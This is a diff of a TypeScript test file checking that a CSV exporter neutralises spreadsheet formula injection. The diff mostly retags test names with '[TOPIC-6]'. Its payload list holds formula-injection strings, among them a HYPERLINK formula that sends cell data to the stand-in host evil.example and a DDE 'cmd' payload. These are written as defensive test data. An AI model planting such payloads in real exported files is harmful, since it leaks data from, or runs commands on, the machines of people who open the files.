@@ -6,7 +6,7 @@ import { csvCell, fromCsvCell } from './csv-format';
 import { topicsToCsv } from './export';
 import { parseTopicsFile } from './import/parse';
 
-/** The payloads of issue 41, hole 5, and OWASP's other formula leads. */
+/** The payloads of a security review's CSV finding, and OWASP's other formula leads. */
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
   "+cmd|' /C calc'!A0",
@@ -21,15 +21,15 @@ function readCell(text: string): string {
   return rows[0]?.[0] ?? '';
 }
 
-describe('CSV export neutralises formulas (issue 41, hole 5: OWASP CSV injection)', () => {
-  it.each(PAYLOADS)('writes %s as quoted text behind a single quote', (payload) => {
+describe('CSV export neutralises formulas (OWASP CSV injection)', () => {
+  it.each(PAYLOADS)('[TOPIC-6] writes %s as quoted text behind a single quote', (payload) => {
     const cell = csvCell(payload);
     expect(cell.startsWith(`"'`)).toBe(true);
     expect(readCell(cell)).toBe(`'${payload}`);
   });
 
   it.each(['\tTabbed', '\rReturned'])(
-    'neutralises a cell that begins with a tab or a return',
+    '[TOPIC-6] neutralises a cell that begins with a tab or a return',
     (text) => {
       expect(readCell(csvCell(text))).toBe(`'${text}`);
     },
@@ -42,7 +42,7 @@ describe('CSV export neutralises formulas (issue 41, hole 5: OWASP CSV injection
     expect(csvCell('')).toBe('');
   });
 
-  it('neutralises every formula cell of an exported topic: title, answers and aliases', () => {
+  it('[TOPIC-6] neutralises every formula cell of an exported topic: title, answers and aliases', () => {
     const [first, second, third, fourth] = PAYLOADS;
     const topic = makeTopic({
       title: first,
@@ -57,7 +57,7 @@ describe('CSV export neutralises formulas (issue 41, hole 5: OWASP CSV injection
     for (const value of Object.values(cells[0] ?? {})) expect(value).not.toMatch(/^[=+\-@\t\r]/);
   });
 
-  it('reads back a neutralised export as it was: formulas, "-5 degrees" and quotes alike', () => {
+  it('[TOPIC-6] reads back a neutralised export as it was: formulas, "-5 degrees" and quotes alike', () => {
     const topic = makeTopic({
       title: '-5 degrees and colder',
       answers: makeAnswers({
@@ -70,7 +70,7 @@ describe('CSV export neutralises formulas (issue 41, hole 5: OWASP CSV injection
     expect(parseTopicsFile(topicsToCsv([topic]), 'csv')).toEqual({ ok: true, topics: [topic] });
   });
 
-  it('round-trips any cell text through csvCell, a CSV reader and fromCsvCell (property)', () => {
+  it('[TOPIC-6] round-trips any cell text through csvCell, a CSV reader and fromCsvCell (property)', () => {
     const lead = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', "'", "''", "'=", "''-", ' ');
     fc.assert(
       fc.property(lead, fc.string({ unit: 'grapheme' }), (start, rest) => {
@@ -81,7 +81,7 @@ describe('CSV export neutralises formulas (issue 41, hole 5: OWASP CSV injection
     );
   });
 
-  it('round-trips a topic whose title begins with any formula lead, losslessly (property)', () => {
+  it('[TOPIC-6] round-trips a topic whose title begins with any formula lead, losslessly (property)', () => {
     const lead = fc.constantFrom('', '=', '+', '-', '@', "'", "''", "'=", "'-", '-5 ');
     const word = fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9 ,"'|()!*&-]{0,40}[A-Za-z0-9)]$/);
     fc.assert(
